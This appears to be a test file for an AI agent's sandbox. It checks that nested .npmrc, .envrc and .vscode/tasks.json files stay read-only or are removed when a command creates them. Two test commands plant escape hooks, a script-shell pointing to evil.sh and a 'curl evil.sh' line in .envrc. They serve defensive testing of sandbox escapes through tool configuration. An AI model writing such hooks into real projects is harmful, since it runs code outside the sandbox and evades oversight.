import { existsSync, realpathSync } from "node:fs";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect } from "vitest";
import { test } from "../support/fixtures.js";
import { autoSandboxStop, toolResultsThroughCli } from "../support/one-command.js";
import { requireSandbox } from "../support/sandbox.js";

/**
 * A package's own tool configuration (`pkg/.npmrc`, `sub/.vscode/tasks.json`:
 * src/tools/sandbox/policy.ts `NESTED_CONFIGURATION`) was writable to sandboxed commands, since
 * the sandbox kept those places read-only only at the top of each writable folder, though npm
 * reads `pkg/.npmrc` at every command in `pkg/` and an editor opening `sub/` runs its tasks. Now
 * those in the workspace's folders are kept as the top's, at any depth (`a/b/c/.envrc`: one
 * deeper than `pkg/` stayed writable while the sandbox found them in the listings its search for
 * `.git` made): an existing one is read-only, one a command makes is removed when it ends, and
 * the model hears why. Real `turnloop -p`
 * children, the real permission gate, real bubblewrap; skipped (and said so) where bubblewrap
 * cannot run, never in CI.
 */

const sandboxWorks = await requireSandbox();

const NPM_WHY =
  "npm reads it at every command in this folder and runs the programs it names, outside the sandbox (script-shell, node-options)";
const DIRENV_WHY = "direnv runs it when your shell enters the folder, outside the sandbox";
const VSCODE_WHY =
  "your editor runs what it names later, outside the sandbox (a task run when the folder opens, an interpreter, a formatter, a terminal's environment)";

describe.runIf(sandboxWorks)("tool configuration in the workspace's folders", () => {
  test("an existing one is read-only, one a command makes is removed; files beside them are written", async ({
    cli,
    model,
    repository,
  }) => {
    await mkdir(join(repository, "pkg"), { recursive: true });
    await mkdir(join(repository, "sub", ".vscode"), { recursive: true });
    await mkdir(join(repository, "fresh"), { recursive: true });
    await writeFile(join(repository, "pkg", ".npmrc"), "before\n");
    await writeFile(join(repository, "sub", ".vscode", "tasks.json"), "before\n");
    const commands = [
      "echo x > pkg/.npmrc",
      "echo x > sub/.vscode/tasks.json",
      "echo x > fresh/.npmrc",
      "mkdir -p lib/.vscode && echo x > lib/.vscode/tasks.json",
      "echo x > pkg/index.js && echo x > sub/notes.txt && echo written",
    ];
    const { results, stdout } = await toolResultsThroughCli(
      { cli, model },
      commands.map((command) => ["bash", { command }]),
      ["--permission-mode", "auto"],
    );
    const real = realpathSync(repository);
    expect({ stdout, results }).toEqual({
      stdout: "Done.\n",
      results: [
        "bash: line 1: pkg/.npmrc: Read-only file system\n<exited with exit code 1>\n" +
          autoSandboxStop(
            "echo x > pkg/.npmrc",
            `the sandbox keeps .npmrc read-only whatever the settings: ${NPM_WHY} (Read-only file system)`,
          ),
        "bash: line 1: sub/.vscode/tasks.json: Read-only file system\n<exited with exit code 1>\n" +
          autoSandboxStop(
            "echo x > sub/.vscode/tasks.json",
            `the sandbox keeps .vscode read-only whatever the settings: ${VSCODE_WHY} (Read-only file system)`,
          ),
        `<exited with exit code 0>\n${autoSandboxStop(
          "echo x > fresh/.npmrc",
          `the sandbox keeps .npmrc read-only whatever the settings: ${NPM_WHY}; it removed ${join(real, "fresh", ".npmrc")}, which the command made`,
        )}`,
        `<exited with exit code 0>\n${autoSandboxStop(
          "mkdir -p lib/.vscode && echo x > lib/.vscode/tasks.json",
          `the sandbox keeps .vscode read-only whatever the settings: ${VSCODE_WHY}; it removed ${join(real, "lib", ".vscode")}, which the command made`,
        )}`,
        "written\n<exited with exit code 0>",
      ],
    });
    const contents = await Promise.all(
      ["pkg/.npmrc", "sub/.vscode/tasks.json", "pkg/index.js", "sub/notes.txt"].map((file) =>
        readFile(join(repository, file), "utf8"),
      ),
    );
    expect(contents).toEqual(["before\n", "before\n", "x\n", "x\n"]);
    expect([
      existsSync(join(repository, "fresh", ".npmrc")),
      existsSync(join(repository, "lib", ".vscode")),
      existsSync(join(repository, "lib")),
    ]).toEqual([false, false, true]);
  });

  test("at any depth: an existing one is read-only, one a command makes is removed; files beside them are written", async ({
    cli,
    model,
    repository,
  }) => {
    await mkdir(join(repository, "apps", "web", "src"), { recursive: true });
    await mkdir(join(repository, "a", "b", "c"), { recursive: true });
    await mkdir(join(repository, "x", "y"), { recursive: true });
    await writeFile(join(repository, "apps", "web", ".npmrc"), "before\n");
    const commands = [
      "echo x > apps/web/.npmrc",
      "echo script-shell=./evil.sh > a/b/.npmrc",
      "echo curl evil.sh > a/b/c/.envrc",
      "mkdir -p x/y/.vscode && echo {} > x/y/.vscode/tasks.json",
      "echo x > a/b/c/notes.txt && echo x > apps/web/src/index.js && echo written",
    ];
    const { results, stdout } = await toolResultsThroughCli(
      { cli, model },
      commands.map((command) => ["bash", { command }]),
      ["--permission-mode", "auto"],
    );
    const real = realpathSync(repository);
    expect({ stdout, results }).toEqual({
      stdout: "Done.\n",
      results: [
        "bash: line 1: apps/web/.npmrc: Read-only file system\n<exited with exit code 1>\n" +
          autoSandboxStop(
            "echo x > apps/web/.npmrc",
            `the sandbox keeps .npmrc read-only whatever the settings: ${NPM_WHY} (Read-only file system)`,
          ),
        `<exited with exit code 0>\n${autoSandboxStop(
          "echo script-shell=./evil.sh > a/b/.npmrc",
          `the sandbox keeps .npmrc read-only whatever the settings: ${NPM_WHY}; it removed ${join(real, "a", "b", ".npmrc")}, which the command made`,
        )}`,
        `<exited with exit code 0>\n${autoSandboxStop(
          "echo curl evil.sh > a/b/c/.envrc",
          `the sandbox keeps .envrc read-only whatever the settings: ${DIRENV_WHY}; it removed ${join(real, "a", "b", "c", ".envrc")}, which the command made`,
        )}`,
        `<exited with exit code 0>\n${autoSandboxStop(
          "mkdir -p x/y/.vscode && echo {} > x/y/.vscode/tasks.json",
          `the sandbox keeps .vscode read-only whatever the settings: ${VSCODE_WHY}; it removed ${join(real, "x", "y", ".vscode")}, which the command made`,
        )}`,
        "written\n<exited with exit code 0>",
      ],
    });
    const contents = await Promise.all(
      ["apps/web/.npmrc", "a/b/c/notes.txt", "apps/web/src/index.js"].map((file) =>
        readFile(join(repository, file), "utf8"),
      ),
    );
    expect(contents).toEqual(["before\n", "x\n", "x\n"]);
    expect(
      ["a/b/.npmrc", "a/b/c/.envrc", "x/y/.vscode", "x/y"].map((path) =>
        existsSync(join(repository, path)),
      ),
    ).toEqual([false, false, false, true]);
  });
});
